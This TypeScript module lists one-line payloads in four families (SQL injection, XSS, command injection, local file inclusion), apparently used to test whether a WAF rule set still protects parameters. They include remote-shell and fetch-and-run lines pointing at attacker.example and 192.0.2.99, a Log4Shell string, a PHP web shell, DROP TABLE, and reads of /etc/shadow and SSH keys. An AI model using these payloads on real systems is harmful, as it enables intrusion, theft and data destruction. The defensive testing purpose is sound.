// Attacks of our own, one line each, for asking "is this parameter still protected?". Shapes, not a scanner's list:
// each stands for a family that the rule set knows at paranoia level 1. All are harmless where they are not executed.

export const attackFamilies = ['sqli', 'xss', 'rce', 'lfi'] as const;
export type AttackFamily = (typeof attackFamilies)[number];

export interface AttackShape {
  readonly family: AttackFamily;
  readonly value: string;
}

const values: Readonly<Record<AttackFamily, readonly string[]>> = {
  sqli: [
    "1' OR '1'='1",
    "x' OR 1=1-- -",
    '7 UNION SELECT name, secret FROM accounts',
    "9' UNION ALL SELECT NULL,NULL,version()-- ",
    '5; DROP TABLE orders--',
    "a' AND SLEEP(5)-- ",
    '1 AND (SELECT COUNT(*) FROM information_schema.tables) > 0',
    "z'; EXEC xp_cmdshell('dir')--",
    "3' AND EXTRACTVALUE(1,CONCAT(0x7e,USER()))-- ",
    "admin'/**/OR/**/2=2#",
    "1' WAITFOR DELAY '0:0:5'--",
    '8 OR BENCHMARK(5000000,MD5(1))',
  ],
  xss: [
    '<script>alert(1)</script>',
    '"><script src=//attacker.example/x.js></script>',
    '<img src=x onerror=alert(1)>',
    '<svg onload=alert(1)>',
    '<body onload=alert(document.cookie)>',
    'javascript:alert(document.domain)',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<a href="javascript:alert(1)">x</a>',
    "'><svg/onload=confirm(1)>",
    '<details open ontoggle=alert(1)>',
    '<object data="javascript:alert(1)">',
    '<input autofocus onfocus=alert(1)>',
  ],
  rce: [
    '; cat /etc/passwd',
    '| id; uname -a',
    '$(curl http://attacker.example/x.sh | sh)',
    '`wget http://attacker.example/x`',
    '; nc -e /bin/sh 192.0.2.99 4444',
    '&& cat /etc/shadow',
    '; bash -i >& /dev/tcp/192.0.2.99/4444 0>&1',
    '| powershell -enc SQBFAFgA',
    '; python3 -c "import os; os.system(\'id\')"',
    '<?php system($_GET["c"]); ?>',
    '${jndi:ldap://attacker.example/a}',
    '; /bin/busybox wget http://attacker.example/x',
  ],
  lfi: [
    '../../../../etc/passwd',
    '..%2f..%2f..%2fetc%2fpasswd',
    '/etc/shadow',
    '....//....//....//etc/passwd',
    '../../../../windows/win.ini',
    'php://filter/convert.base64-encode/resource=index',
    'file:///etc/passwd',
    '..\\..\\..\\windows\\system32\\drivers\\etc\\hosts',
    '/proc/self/environ',
    '../../../.ssh/id_rsa',
  ],
};

export const attackShapes: readonly AttackShape[] = attackFamilies.flatMap((family) =>
  values[family].map((value) => ({ family, value })),
);
